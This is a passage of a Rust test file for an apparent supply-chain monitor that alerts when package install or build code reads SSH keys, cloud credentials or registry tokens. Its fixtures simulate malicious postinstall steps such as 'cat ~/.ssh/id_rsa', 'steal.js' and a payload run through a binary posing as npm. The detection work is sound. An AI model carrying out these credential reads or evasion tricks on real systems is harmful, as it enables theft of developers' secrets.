    // started dedups on its own: a second npx reading the same key is told again.
    assert_eq!(alert.credwatch.root_pid, 800);
    run.spawn(809, 801, &["npx", "cowsay"], PROJECT_SCRIPT).open(809, "/home/alice/.ssh/id_ed25519");
    assert_eq!(run.one().rule.id, "ssh-private-keys");
    run.open(809, "/home/alice/.ssh/id_ed25519");
    assert!(run.take().is_empty(), "the same npx again: a repeat");
    run.spawn(806, 801, &["npm", "test"], PROJECT_SCRIPT)
        .spawn(807, 806, &["sh", "-c", "jest"], PROJECT_SCRIPT)
        .open(807, "/home/alice/.ssh/id_ed25519");
    assert!(run.take().is_empty());
    // The developer's own `npm publish` is no "nested publish by package code".
    run.spawn(808, 801, &["npm", "publish"], PROJECT_SCRIPT);
    assert!(run.take().is_empty(), "{:#?}", run.alerts);
}

#[test]
fn project_commands_run_by_package_code_stay_watched() {
    let mut run = Run::new();
    run.exec(900, 1, &["npm", "install"], &[])
        .spawn(901, 900, &["sh", "-c", "npm run build"], POSTINSTALL)
        .spawn(902, 901, &["npm", "run", "build"], POSTINSTALL)
        .spawn(903, 902, &["sh", "-c", "node build.js"], POSTINSTALL)
        .open(903, "/home/alice/.aws/credentials");
    let alert = run.one();
    assert_eq!((alert.rule.id.as_str(), alert.package.name.as_deref()), ("aws-credentials", Some("evil-pkg")));
    // Shai-Hulud's `bun run` from a postinstall is no project either.
    run.spawn(904, 901, &["bun", "run", "payload.js"], POSTINSTALL).open(904, "/home/alice/.ssh/id_rsa");
    assert_eq!(run.one().rule.id, "ssh-private-keys");
}

#[test]
fn cargo_run_and_test_quiet_the_program_not_the_dependencies_build() {
    for command in ["run", "test", "bench"] {
        let mut run = Run::new();
        run.exec(1000, 1, &["cargo", command], &[]);
        // A dependency's build script: watched.
        let script = "/home/alice/app/target/debug/build/dep-0a1b2c3d4e5f6789/build-script-build";
        run.fork(1000, 1001).exec_full(1001, 1000, script, &[script], "/home/alice/app", &[]);
        run.open(1001, "/home/alice/.cargo/credentials.toml");
        let alert = run.one();
        assert_eq!((alert.rule.id.as_str(), alert.package.name.as_deref()), ("cargo-registry-token", Some("dep")));
        // rustc running a proc-macro: watched.
        run.spawn(1002, 1000, &["/home/alice/.rustup/toolchains/stable/bin/rustc", "--crate-name", "app"], &[])
            .open(1002, "/home/alice/.aws/credentials");
        assert_eq!(run.one().rule.id, "aws-credentials");
        // The program (or test binary) cargo built for the command, and what it starts: quiet.
        let program = if command == "run" {
            "/home/alice/app/target/debug/app"
        } else {
            "/home/alice/app/target/debug/deps/app-0123abcd"
        };
        run.fork(1000, 1003).exec_full(1003, 1000, program, &[program], "/home/alice/app", &[]);
        run.open(1003, "/home/alice/.aws/credentials").spawn(1004, 1003, &["sh", "-c", "cat ~/.ssh/id_rsa"], &[]);
        run.open(1004, "/home/alice/.ssh/id_rsa");
        assert!(run.take().is_empty(), "cargo {command}");
    }
    // `cargo build` runs nothing of the project's: a program it ran would be watched.
    let mut run = Run::new();
    run.exec(1100, 1, &["cargo", "build"], &[]);
    run.fork(1100, 1101).exec_full(1101, 1100, "/home/alice/app/target/debug/app", &["app"], "/home/alice/app", &[]);
    run.open(1101, "/home/alice/.aws/credentials");
    assert_eq!(run.one().rule.id, "aws-credentials");
}

#[test]
fn what_the_kernel_blocked_in_the_projects_code_is_told() {
    let mut run = Run::new();
    run.exec(1250, 1, &["npm", "test"], &[]).spawn(1251, 1250, &["sh", "-c", "jest"], PROJECT_SCRIPT);
    run.send(
        1251,
        EventData::Open(Open {
            tid: 1251,
            syscall: "openat".into(),
            dirfd: AT_FDCWD,
            path: "/home/alice/.ssh/id_ed25519".into(),
            ret: -1,
            blocked: true,
            ..Open::default()
        }),
    );
    syscall(&mut run, 1251, "bpf", Some("BPF_PROG_LOAD"), None, true);
    let alerts = run.take();
    let ids: Vec<&str> = alerts.iter().map(|a| a.rule.id.as_str()).collect();
    assert_eq!(ids, ["ssh-private-keys", "bpf-by-package"], "{alerts:#?}");
    assert!(alerts.iter().all(|a| a.event.outcome == "blocked"));
    // Not blocked: quiet.
    syscall(&mut run, 1251, "bpf", Some("BPF_PROG_LOAD"), None, false);
    assert!(run.take().is_empty());
}

#[test]
fn poetry_run_that_execs_in_place_is_the_project() {
    let mut run = Run::new();
    run.exec(1200, 1, &["poetry", "run", "pytest"], &[])
        .exec(1200, 1, &["/home/alice/app/.venv/bin/pytest"], &[])
        .open(1200, "/home/alice/.aws/credentials");
    assert!(run.take().is_empty());
}

#[test]
fn bundle_exec_that_execs_in_place_is_the_project() {
    let mut run = Run::new();
    run.exec_full(
        1210,
        1,
        "/usr/bin/bundle",
        &["/usr/bin/ruby", "/usr/bin/bundle", "exec", "rspec"],
        "/home/alice/app",
        &[],
    )
    .exec_full(1210, 1, "/usr/local/bin/rspec", &["/usr/bin/ruby", "/usr/local/bin/rspec"], "/home/alice/app", &[])
    .open(1210, "/home/alice/.aws/credentials");
    assert!(run.take().is_empty());
}

/// `gem install --local --install-dir /tmp/i ./evil-0.1.0.gem` as the kernel runs it (strace
/// of RubyGems 3.3 on Debian): `/usr/bin/gem` (`#!/usr/bin/env ruby`), env's exec of ruby in
/// the same process, then a child in the extension's directory for each step.
fn gem_install_builds(run: &mut Run, steps: &[(u32, &str, &[&str])]) {
    let gem =
        ["/usr/bin/env", "ruby", "/usr/bin/gem", "install", "--local", "--install-dir", "/tmp/i", "./evil-0.1.0.gem"];
    run.exec_full(1400, 1, "/usr/bin/gem", &gem, "/home/alice", &[]).exec_full(
        1400,
        1,
        "/usr/bin/ruby",
        &gem[1..],
        "/home/alice",
        &[],
    );
    for &(pid, file, args) in steps {
        run.fork(1400, pid).exec_full(
            pid,
            1400,
            file,
            args,
            "/tmp/i/gems/evil-0.1.0/ext/evil",
            &[("GEM_HOME", "/tmp/i")],
        );
    }
}

const EXTCONF: &[&str] =
    &["/usr/bin/ruby3.1", "-I", "/usr/lib/ruby/vendor_ruby", "-r", "./siteconf20261202-1400-x1y2.rb", "extconf.rb"];

#[test]
fn gem_extension_builds_are_named_by_gem_version_and_step() {
    let mut run = Run::new();
    gem_install_builds(&mut run, &[(1401, "/usr/bin/ruby3.1", EXTCONF)]);
    run.open(1401, "/home/alice/.ssh/id_ed25519");
    let alert = run.one();
    assert_eq!(alert.rule.id, "ssh-private-keys");
    assert_eq!(alert.package.manager, "gem");
    assert_eq!(alert.package.name.as_deref(), Some("evil"));
    assert_eq!(alert.package.version.as_deref(), Some("0.1.0"));
    assert_eq!(alert.package.lifecycle.as_deref(), Some("extconf"));
    assert_eq!(alert.process.ancestors[0].pid, 1400);
    // A shell that extconf.rb starts stays its step; RubyGems' `make` afterwards is the next.
    run.spawn(1402, 1401, &["sh", "-c", "cat ~/.aws/credentials"], &[]).open(1402, "/home/alice/.aws/credentials");
    assert_eq!(run.one().package.lifecycle.as_deref(), Some("extconf"));
    run.fork(1400, 1403)
        .exec_full(1403, 1400, "/usr/bin/make", &["make", "DESTDIR="], "/tmp/i/gems/evil-0.1.0/ext/evil", &[])
        .open(1403, "/home/alice/.aws/config");
    let alert = run.one();
    assert_eq!((alert.package.name.as_deref(), alert.package.lifecycle.as_deref()), (Some("evil"), Some("make")));
    // RubyGems itself reading its own files, and a build that reads nothing, raise nothing.
    let mut run = Run::new();
    gem_install_builds(
        &mut run,
        &[(1401, "/usr/bin/ruby3.1", EXTCONF), (1402, "/usr/bin/make", &["make", "DESTDIR="])],
    );
    run.open(1400, "/home/alice/.gem/credentials").open(1401, "/tmp/i/gems/evil-0.1.0/ext/evil/extconf.rb");
    assert!(run.take().is_empty());
}

#[test]
fn bundler_extension_builds_are_named_by_gem_version_and_step() {
    let mut run = Run::new();
    let dir = "/home/alice/app/vendor/bundle/ruby/3.1.0/gems/evil-0.1.0/ext/evil";
    run.exec_full(
        1500,
        1,
        "/usr/bin/bundle",
        &["/usr/bin/ruby", "/usr/bin/bundle", "install", "--local"],
        "/home/alice/app",
        &[],
    )
    .fork(1500, 1501)
    .exec_full(1501, 1500, "/usr/bin/ruby3.1", EXTCONF, dir, &[])
    .open(1501, "/home/alice/.gem/credentials");
    let alert = run.one();
    assert_eq!(alert.rule.id, "rubygems-credentials");
    assert_eq!(alert.package.manager, "bundler");
    assert_eq!(alert.package.name.as_deref(), Some("evil"));
    assert_eq!(alert.package.version.as_deref(), Some("0.1.0"));
    assert_eq!(alert.package.lifecycle.as_deref(), Some("extconf"));
    // A git source: named by its repository's checkout, with no version.
    run.fork(1500, 1502)
        .exec_full(
            1502,
            1500,
            "/usr/bin/ruby3.1",
            EXTCONF,
            "/home/alice/app/vendor/bundle/ruby/3.1.0/bundler/gems/worm-0a1b2c3d4e5f/ext/worm",
            &[],
        )
        .open(1502, "/home/alice/.ssh/id_rsa");
    let alert = run.one();
    assert_eq!((alert.package.name.as_deref(), alert.package.version.as_deref()), (Some("worm"), None));
    // `bundle install` reading its own configuration, and the user's, raises nothing.
    run.open(1500, "/home/alice/.bundle/config").open(1500, "/home/alice/.gem/credentials");
    assert!(run.take().is_empty());
}

/// A foreign trace without `HOME`: npm (pid 1300, uid 112) in `/var/lib/jenkins/workspace/job`,
/// its postinstall reading `<home>/.aws/credentials`.
fn jenkins_npm_install(options: EngineOptions, npm_reads: &[(&str, i64)]) -> Vec<Alert> {
    let mut run = Run::with(options);
    let cwd = "/var/lib/jenkins/workspace/job";
    let exec = |run: &mut Run, pid: u32, ppid: u32, args: &[&str], env: &[(&str, &str)]| {
        let env: BTreeMap<String, String> = env.iter().map(|(k, v)| ((*k).to_owned(), (*v).to_owned())).collect();
        let exec = Exec {
            ppid,
            filename: args[0].into(),
            executable: args[0].into(),
            args: args.iter().map(|a| (*a).to_owned()).collect(),
            cwd: cwd.into(),
            uid: 112,
            env,
            ..Exec::default()
        };
        run.send(pid, EventData::Exec(exec));
    };
    exec(&mut run, 1300, 1, &["/usr/bin/npm", "install"], &[]);
    for (path, ret) in npm_reads {
        run.open_full(1300, path, None, *ret, 0o2000000);
    }
    run.fork(1300, 1301);
    exec(&mut run, 1301, 1300, &["/bin/sh", "-c", "node postinstall.js"], POSTINSTALL);
    run.open(1301, "/var/lib/jenkins/.aws/credentials");
    run.take()
}

#[test]
fn a_trace_without_home_alerts_where_the_manager_looked_for_its_user_config() {
    let none = EngineOptions::default();
    // Without a clue there is no home to match ~/.npmrc against.
    assert!(jenkins_npm_install(none.clone(), &[]).is_empty());
    // The project's own .npmrc (in the working directory) is no clue; npm's look for the
    // user's, found or not, is.
    assert!(jenkins_npm_install(none.clone(), &[("/var/lib/jenkins/workspace/job/.npmrc", 3)]).is_empty());
    for ret in [3, -2] {
        let alerts = jenkins_npm_install(
            none.clone(),
            &[("/var/lib/jenkins/workspace/job/.npmrc", -2), ("/var/lib/jenkins/.npmrc", ret)],
        );
        assert_eq!(alerts.len(), 1, "{alerts:#?}");
        assert_eq!(alerts[0].rule.id, "aws-credentials");
        assert_eq!(alerts[0].package.name.as_deref(), Some("evil-pkg"));
    }
    // npm's log in ~/.npm/_logs says it too, relative to the cwd or not.
    let alerts = jenkins_npm_install(none.clone(), &[("../../.npm/_logs/2026-12-01T10_00_00_000Z-debug-0.log", 3)]);
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    // --home, and the passwd file's entry for the uid.
    let home = EngineOptions { home: Some("/var/lib/jenkins".into()), ..EngineOptions::default() };
    assert_eq!(jenkins_npm_install(home, &[]).len(), 1);
    let passwd = EngineOptions { passwd: [(112, "/var/lib/jenkins".to_owned())].into(), ..EngineOptions::default() };
    assert_eq!(jenkins_npm_install(passwd, &[]).len(), 1);
    // --home beats what was inferred, which beats passwd.
    let elsewhere = EngineOptions { home: Some("/srv/other".into()), ..EngineOptions::default() };
    assert!(jenkins_npm_install(elsewhere, &[("/var/lib/jenkins/.npmrc", 3)]).is_empty());
    let passwd = EngineOptions { passwd: [(112, "/srv/other".to_owned())].into(), ..EngineOptions::default() };
    assert_eq!(jenkins_npm_install(passwd, &[("/var/lib/jenkins/.npmrc", 3)]).len(), 1);
}

#[test]
fn package_code_cannot_choose_the_home() {
    let mut run = Run::new();
    let cwd = "/var/lib/jenkins/workspace/job";
    run.exec_full(1400, 1, "/usr/bin/npm", &["npm", "install"], cwd, &[]);
    run.spawn(1401, 1400, &["sh", "-c", "node x.js"], POSTINSTALL)
        .open_full(1401, "/tmp/decoy/.npmrc", None, -2, 0)
        .open(1401, "/tmp/decoy/.aws/credentials");
    assert!(run.take().is_empty());
    // Nor can an archive's files that npm writes while unpacking it.
    run.open_full(1400, "/tmp/unpack/evil/.npm/_logs/x.log", None, 3, (libc::O_WRONLY | libc::O_CREAT) as u64)
        .open(1401, "/tmp/unpack/evil/.aws/credentials");
    assert!(run.take().is_empty());
    // The manager's later look-up is still the clue.
    run.open_full(1400, "/var/lib/jenkins/.npmrc", None, -2, 0).open(1401, "/var/lib/jenkins/.aws/credentials");
    assert_eq!(run.one().rule.id, "aws-credentials");
}

#[test]
fn a_config_chain_read_is_low_and_says_why_a_lone_or_late_read_is_not() {
    let mut run = Run::new();
    let pkg = "/home/alice/app/node_modules/optipng-bin";
    run.exec(100, 1, &["npm", "install"], &[]).spawn(101, 100, &["node", "lib/install.js"], POSTINSTALL);
    // npm-conf: the package's own .npmrc (missing), ~/.npmrc, the global npmrc.
    run.open_full(101, &format!("{pkg}/.npmrc"), None, -2, 0).open(101, "/home/alice/.npmrc");
    let alert = run.one();
    assert_eq!((alert.rule.id.as_str(), alert.rule.severity), ("npm-registry-token", Severity::Low));
    assert!(alert.credwatch.why.as_deref().is_some_and(|why| why.contains("configuration chain")), "{alert:#?}");

    // The same chain with 60 ms between the links is no loader's single pass.
    run.spawn(102, 100, &["node", "steal.js"], POSTINSTALL).open_full(102, &format!("{pkg}/.npmrc"), None, -2, 0);
    run.time_ns += 60_000_000;
    run.open(102, "/home/alice/.npmrc");
    let alert = run.one();
    assert_eq!((alert.rule.severity, alert.credwatch.why.as_deref()), (Severity::High, None));

    // Reading the token file twice is not a chain either.
    run.spawn(103, 100, &["node", "grab.js"], POSTINSTALL)
        .open(103, "/home/alice/.npmrc")
        .open(103, "/home/alice/.npmrc");
    assert!(run.take().iter().all(|a| a.rule.severity == Severity::High));
}

#[test]
fn programs_a_build_from_sources_generated_are_low_a_dropped_payload_is_not() {
    let mut run = Run::new();
    let src = "/tmp/pip-req-build-x/libfoo";
    let write = libc::O_WRONLY as u64 | libc::O_CREAT as u64;
    run.exec(100, 1, &["pip", "install", "./foo.tar.gz"], &[]).spawn(101, 100, &["python3", "setup.py", "build"], &[]);
    run.spawn(102, 101, &["make", "-C", src], &[]).open_full(
        102,
        &format!("{src}/conftest"),
        Some(&format!("{src}/conftest")),
        3,
        write,
    );
    run.fork(102, 103).exec_full(103, 102, &format!("{src}/conftest"), &["./conftest"], src, &[]);
    let alert = run.one();
    assert_eq!((alert.rule.id.as_str(), alert.rule.severity), ("exec-of-written-file", Severity::Low));
    assert!(alert.credwatch.why.as_deref().is_some_and(|why| why.contains("own sources")), "{alert:#?}");

    // The same program written and run by setup.py itself, under no build driver.
    run.open_full(101, "/tmp/payload", Some("/tmp/payload"), 3, write);
    run.fork(101, 104).exec_full(104, 101, "/tmp/payload", &["/tmp/payload"], src, &[]);
    let alert = run.one();
    assert_eq!((alert.rule.id.as_str(), alert.rule.severity), ("exec-of-written-file", Severity::High));
}

/// `exec` with the kernel's executable apart from the path given to execve.
fn exec_as(run: &mut Run, pid: u32, ppid: u32, filename: &str, executable: &str, args: &[&str]) {
    run.fork(ppid, pid).send(
        pid,
        EventData::Exec(Exec {
            ppid,
            filename: filename.into(),
            executable: executable.into(),
            args: args.iter().map(|a| (*a).to_owned()).collect(),
            cwd: "/home/alice/app".into(),
            uid: 1000,
            gid: 1000,
            ..Exec::default()
        }),
    );
}

#[test]
fn a_manager_run_through_its_interpreter_and_release_file_is_the_manager() {
    let mut run = Run::new();
    run.exec_full(100, 1, "/usr/bin/node", &["node", ".yarn/releases/yarn-4.5.3.cjs", "install"], "/w", &[])
        .open(100, "/home/alice/.yarnrc.yml");
    assert!(run.take().is_empty(), "yarn reading its own configuration");
    run.spawn(101, 100, &["sh", "-c", "node x.js"], POSTINSTALL).open(101, "/home/alice/.yarnrc.yml");
    let alert = run.one();
    assert_eq!((alert.package.manager.as_str(), alert.rule.severity), ("yarn", Severity::High));
    assert_eq!((alert.package.name.as_deref(), alert.credwatch.root_pid), (Some("evil-pkg"), 100));

    // npm's own entry point run by node; node running anything else roots nothing.
    run.exec_full(200, 1, "/usr/bin/node", &["node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "ci"], "/w", &[])
        .spawn(201, 200, &["sh", "-c", "node x.js"], POSTINSTALL)
        .open(201, "/home/alice/.npmrc");
    assert_eq!(run.one().package.manager, "npm");
    run.exec_full(300, 1, "/usr/bin/node", &["node", "server.js"], "/w", &[]).open(300, "/home/alice/.npmrc");
    assert!(run.take().is_empty(), "node server.js is no tree");
}

#[test]
fn a_program_posing_as_a_manager_is_package_code() {
    // The postinstall copies node to a temporary directory under npm's name and runs it.
    let mut run = npm_tree();
    run.spawn(103, 102, &["cp", "/usr/bin/node", "/tmp/x/npm"], &[]).open_full(
        103,
        "/tmp/x/npm",
        Some("/tmp/x/npm"),
        3,
        write_flags(),
    );
    exec_as(&mut run, 104, 102, "/tmp/x/npm", "/tmp/x/npm", &["/tmp/x/npm", "-e", "read()"]);
    assert_eq!(run.one().rule.id, "exec-of-written-file");
    run.open(104, "/home/alice/.npmrc");
    let alert = run.one();
    assert_eq!((alert.rule.id.as_str(), alert.rule.severity), ("npm-registry-token", Severity::High));
    assert_eq!((alert.package.manager.as_str(), alert.package.name.as_deref()), ("npm", Some("evil-pkg")));

    // Written by the tree, wherever it lies: not the installed manager either.
    let mut run = npm_tree();
    let copy = "/home/alice/app/node_modules/.cache/yarn";
    run.open_full(102, copy, Some(copy), 3, write_flags());
    exec_as(&mut run, 104, 102, copy, copy, &[copy, "-e", "read()"]);
    run.take();
    run.open(104, "/home/alice/.yarnrc.yml");
    assert_eq!(run.one().rule.severity, Severity::High);

    // A release file the tree wrote, run by node.
    let mut run = npm_tree();
    let release = "/home/alice/app/node_modules/evil/yarn-4.5.3.cjs";
    run.open_full(102, release, Some(release), 3, write_flags());
    exec_as(&mut run, 104, 102, "/usr/bin/node", "/usr/bin/node", &["node", release, "install"]);
    run.take();
    run.open(104, "/home/alice/.yarnrc.yml");
    assert_eq!(run.one().rule.severity, Severity::High);

    // Outside any tree, it roots one and its reads alert.
    let mut run = Run::new();
    exec_as(&mut run, 500, 1, "/dev/shm/npm", "/dev/shm/npm", &["npm"]);
    run.open(500, "/home/alice/.npmrc");
    assert_eq!(run.one().rule.severity, Severity::High);
}

#[test]
fn the_installed_manager_is_still_the_manager() {
    // The real npm is a script: the kernel names node as its executable. Started by package
    // code (`npm whoami`), its read of the token is low, as before.
    let mut run = npm_tree();
    exec_as(&mut run, 104, 102, "/usr/bin/npm", "/usr/bin/node", &["npm", "whoami"]);
    assert_eq!(run.one().rule.id, "npm-token-use");
    run.open(104, "/home/alice/.npmrc");
    assert_eq!(run.one().rule.severity, Severity::Low);
    // pip of a virtual environment under /tmp (a script run by the venv's python) and
    // `python3 -m pip` of a venv whose python is a copy: the manager, reading its own config.
    let mut run = Run::new();
    exec_as(
        &mut run,
        600,
        1,
        "/tmp/venv/bin/pip",
        "/usr/bin/python3.11",
        &["/tmp/venv/bin/python3", "/tmp/venv/bin/pip"],
    );
    exec_as(&mut run, 601, 1, "/tmp/venv/bin/python3", "/tmp/venv/bin/python3", &["python3", "-m", "pip", "install"]);
    for pid in [600, 601] {
        run.open(pid, "/home/alice/.config/pip/pip.conf").open(pid, "/home/alice/.pypirc");
    }
    let alerts = run.take();
    assert!(alerts.iter().all(|a| a.rule.severity <= Severity::Low), "{alerts:#?}");
    // cargo is a binary wherever it is installed (a test HOME under /tmp).
    let mut run = Run::new();
    exec_as(&mut run, 700, 1, "/tmp/h/.cargo/bin/cargo", "/tmp/h/.cargo/bin/cargo", &["cargo", "build"]);
    run.open(700, "/tmp/h/.cargo/credentials.toml");
    assert!(run.take().is_empty());
}

#[test]
fn cargo_names_packages_as_published() {
    let mut run = Run::new();
    let deps = "/home/alice/w/target/debug/deps";
    let built = [("CARGO_PKG_NAME", "derive-stamp"), ("CARGO_PKG_VERSION", "1.0.2")];
    run.exec(300, 1, &["cargo", "build"], &[])
        .spawn(
            301,
            300,
            &["rustc", "--crate-name", "derive_stamp", "--crate-type", "proc-macro", "-C", "extra-filename=-0a1b2c3d"],
            &built,
        )
        .exit(301);
    let stamp = format!("derive_stamp={deps}/libderive_stamp-0a1b2c3d.so");
    run.spawn(302, 300, &["rustc", "--crate-name", "app", "--extern", &stamp], &[("CARGO_PKG_NAME", "app")])
        .open(302, "/home/alice/.aws/credentials");
    let alert = run.one();
    assert_eq!(alert.package.name.as_deref(), Some("derive-stamp"));
    assert_eq!(alert.package.version.as_deref(), Some("1.0.2"));
    assert_eq!(alert.package.lifecycle.as_deref(), Some("proc-macro"));

    // A crate's own `include_str!` of a credential names the package, not the crate identifier.
    run.spawn(303, 300, &["rustc", "--crate-name", "my_crate"], &[("CARGO_PKG_NAME", "my-crate")])
        .open(303, "/home/alice/.pgpass");
    let alert = run.one();
    assert_eq!(
        (alert.package.name.as_deref(), alert.package.lifecycle.as_deref()),
        (Some("my-crate"), Some("compile"))
    );
}

#[test]
fn python_builds_of_local_directories_are_named_from_the_projects_metadata() {
    let project = |name: &str, version: &str| crate::event::Project {
        name: name.into(),
        version: Some(version.into()),
        source: "pyproject.toml".into(),
    };
    let backend = |ppid: u32, args: &[&str], project: crate::event::Project| {
        EventData::Exec(Exec {
            ppid,
            filename: "/usr/bin/python3".into(),
            executable: "/usr/bin/python3.11".into(),
            args: args.iter().map(|a| (*a).to_owned()).collect(),
            cwd: "/home/alice/src/local-dir".into(),
            project: Some(project),
            ..Exec::default()
        })
    };
    let mut run = Run::new();
    // `pip install ./local-dir`: no archive, no build directory to go by.
    run.exec(200, 1, &["pip", "install", "./local-dir"], &[]).fork(200, 201);
    let hook = ["python3", "_in_process.py", "get_requires_for_build_wheel"];
    run.send(201, backend(200, &hook, project("local-dir", "0.7.0"))).open(201, "/home/alice/.pypirc");
    let alert = run.one();
    assert_eq!((alert.package.manager.as_str(), alert.package.name.as_deref()), ("pip", Some("local-dir")));
    assert_eq!(alert.package.version.as_deref(), Some("0.7.0"));
    assert_eq!(alert.package.lifecycle.as_deref(), Some("build-backend"));

    // `uv pip install ./dir`: uv runs the backend's hooks from `python -c`.
    run.exec(210, 1, &["uv", "pip", "install", "./dir"], &[]).fork(210, 211);
    let code = "import setuptools.build_meta as backend\nbackend.build_wheel('/tmp/w')";
    run.send(211, backend(210, &["python3", "-c", code], project("uv-dir", "2.0"))).open(211, "/home/alice/.pypirc");
    let alert = run.one();
    assert_eq!((alert.package.manager.as_str(), alert.package.name.as_deref()), ("uv", Some("uv-dir")));
    assert_eq!(alert.package.lifecycle.as_deref(), Some("build-backend"));

    // An sdist's PKG-INFO wins over pip's build directory name (`evil_pkg_0f1e`).
    run.exec(220, 1, &["pip", "install", "evil-pkg"], &[]).fork(220, 221);
    let EventData::Exec(mut exec) =
        backend(220, &["python3", "_in_process.py", "build_wheel"], project("evil-pkg", "3.0"))
    else {
        unreachable!()
    };
    exec.cwd = "/tmp/pip-install-q1w2/evil_pkg_0f1e2d3c".into();
    run.send(221, EventData::Exec(exec)).open(221, "/home/alice/.pypirc");
    assert_eq!(run.one().package.name.as_deref(), Some("evil-pkg"));

    // Under an npm tree, a python child (node-gyp) keeps the npm package's name.
    let mut run = npm_tree();
    run.fork(102, 103).send(103, backend(102, &["python3", "gyp_main.py"], project("not-this", "1")));
    run.open(103, "/home/alice/.pypirc");
    assert_eq!(run.one().package.name.as_deref(), Some("evil-pkg"));
}

#[test]
fn project_commands_of_managers_started_by_their_interpreter_are_the_projects() {
    let sh = ["sh", "-c", "node server.js"];
    for args in [
        &["node", ".yarn/releases/yarn-4.5.3.cjs", "dev"][..],
        &["node", ".yarn/releases/yarn-4.5.3.cjs", "run", "dev"],
        &["node", "/usr/bin/corepack", "pnpm", "run", "dev"],
        &["node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "run", "dev"],
        &["python3", "-m", "poetry", "run", "pytest"],
    ] {
        let mut run = Run::new();
        assert_eq!(project_reads(&mut run, args, &sh), Vec::<String>::new(), "{args:?}");
    }
    // Installing through the release file is watched.
    let mut run = Run::new();
    run.exec(700, 1, &["node", ".yarn/releases/yarn-4.5.3.cjs", "install"], &[])
        .spawn(701, 700, &["sh", "-c", "node x.js"], POSTINSTALL)
        .open(701, "/home/alice/.aws/credentials");
    assert_eq!(run.one().package.manager, "yarn");
}

#[test]
fn pips_own_runner_is_pip_a_runner_started_by_package_code_is_not() {
    let mut run = Run::new();
    let runner = ["/usr/bin/python3", "/usr/lib/python3/dist-packages/pip/__pip-runner__.py", "install", "setuptools"];
    run.exec(100, 1, &["pip", "install", "./six-1.16.0.tar.gz"], &[]).spawn(101, 100, &runner, &[]);
    run.open(101, "/home/alice/.netrc");
    assert!(run.take().is_empty());
    // setup.py starting the same runner is package code borrowing pip's name.
    run.spawn(102, 100, &["python3", "setup.py", "egg_info"], &[]).spawn(103, 102, &runner, &[]);
    run.open(103, "/home/alice/.netrc");
    let alert = run.one();
    assert_eq!((alert.rule.id.as_str(), alert.rule.severity), ("netrc", Severity::High));
}

/// A rule over the defaults, as a `--rules DIR` file.
const EXTRA_RULE: &str = "schema: 1
rules:
  - id: acme-token
    name: Acme CLI token
    description: Package code opened the Acme CLI's token.
    category: platform
    severity: high
    targets: [\"~/.acme/token\"]
    samples:
      positive:
        - exec: {pid: 100, args: [npm, install], cwd: /home/alice/app}
        - exec: {pid: 101, ppid: 100, args: [node, x.js]}
        - open: {pid: 101, path: /home/alice/.acme/token}
      negative:
        - exec: {pid: 100, args: [npm, install], cwd: /home/alice/app}
        - open: {pid: 100, path: /home/alice/.acme/token.pub}
";

#[test]
fn a_reload_keeps_running_trees_their_attribution_and_dedup() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("acme.yaml"), EXTRA_RULE).unwrap();
    let mut run = Run::new();
    run.exec(100, 1, &["npm", "install"], &[]).spawn(101, 100, &["node", "x.js"], POSTINSTALL);
    run.open(101, "/home/alice/.aws/credentials");
    assert_eq!(run.one().rule.id, "aws-credentials");
    run.open(101, "/home/alice/.acme/token");
    assert!(run.take().is_empty(), "no rule yet");

    let rules = RuleSet::load(Some(dir.path())).unwrap();
    run.engine.reload(rules, EngineOptions { host_name: "box".into(), ..EngineOptions::default() }).unwrap();
    run.open(101, "/home/alice/.acme/token");
    let alert = run.one();
    assert_eq!(alert.rule.id, "acme-token");
    assert_eq!(alert.package.name.as_deref(), Some("evil-pkg"), "the tree started before the reload");
    assert_eq!(alert.credwatch.root_pid, 100);
    run.open(101, "/home/alice/.aws/credentials");
    assert!(run.take().is_empty(), "still a repeat of the alert raised before the reload");

    // Back to the defaults: the rule is gone, the tree is not.
    run.engine.reload(RuleSet::defaults().unwrap(), EngineOptions::default()).unwrap();
    run.open(101, "/home/alice/.acme/token").open(101, "/home/alice/.ssh/id_ed25519");
    assert_eq!(run.one().rule.id, "ssh-private-keys");
}

#[test]
fn a_reload_that_changes_the_managers_is_refused_and_changes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("mine.yaml"), "schema: 1\nmanagers:\n  - name: mypm\n    execs: [mypm]\n").unwrap();
    let mut run = Run::new();
    run.exec(100, 1, &["npm", "install"], &[]).spawn(101, 100, &["node", "x.js"], POSTINSTALL);
    let rules = RuleSet::load(Some(dir.path())).unwrap();
    let error = run.engine.reload(rules, EngineOptions::default()).unwrap_err();
    assert!(error.to_string().contains("needs a restart"), "{error}");
    assert_eq!(run.engine.rules().managers(), RuleSet::defaults().unwrap().managers());
    run.open(101, "/home/alice/.npmrc");
    assert_eq!(run.one().package.name.as_deref(), Some("evil-pkg"));
}

/// An exec of `args` by `pid` in the cgroups `cgroups`.
fn exec_in(run: &mut Run, pid: u32, ppid: u32, args: &[&str], env: &[(&str, &str)], cgroups: &[String]) {
    let env = env.iter().map(|(k, v)| ((*k).to_owned(), (*v).to_owned())).collect();
    run.send(
        pid,
        EventData::Exec(Exec {
            ppid,
            filename: args[0].into(),
            executable: args[0].into(),
            args: args.iter().map(|a| (*a).to_owned()).collect(),
            cwd: "/home/alice/app".into(),
            uid: 1000,
            gid: 1000,
            cgroups: cgroups.to_vec(),
            env,
            ..Exec::default()
        }),
    );
}

const CONTAINER: &str = "9e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f7";
const POD: &str = "0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d";

const GITHUB: &[(&str, &str)] = &[
    ("GITHUB_ACTIONS", "true"),
    ("GITHUB_REPOSITORY", "octo/app"),
    ("GITHUB_WORKFLOW", "CI"),
    ("GITHUB_RUN_ID", "4242"),
    ("GITHUB_JOB", "test"),
    ("RUNNER_NAME", "runner-1"),
];

#[test]
fn alerts_name_the_host_agent_container_pod_and_ci_job_and_forks_inherit_them() {
    let mut run = Run::with(EngineOptions {
        host_id: Some("4c4c4544004d3510804bb2c04f4e3632".into()),
        agent_version: Some("0.1.0".into()),
        ..EngineOptions::default()
    });
    let pod_cgroups = [
        format!("/kubepods/besteffort/pod{POD}/{CONTAINER}"),
        format!(
            "/kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod{}.slice/cri-containerd-{CONTAINER}.scope",
            POD.replace('-', "_")
        ),
    ];
